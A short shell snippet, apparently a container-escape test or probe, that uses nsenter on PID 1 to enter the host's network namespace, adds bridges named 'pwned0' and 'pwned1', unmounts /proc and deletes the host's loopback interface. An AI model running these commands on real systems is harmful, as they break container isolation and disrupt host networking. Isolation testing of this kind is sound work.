# Tries to reach the host's own network namespace through PID 1, with /proc
# unmounted to uncover the host's process list.
nsenter -t 1 -n ip link add pwned0 type bridge
umount /proc
nsenter -t 1 -n ip link add pwned1 type bridge
nsenter --net=/proc/1/ns/net ip link del lo
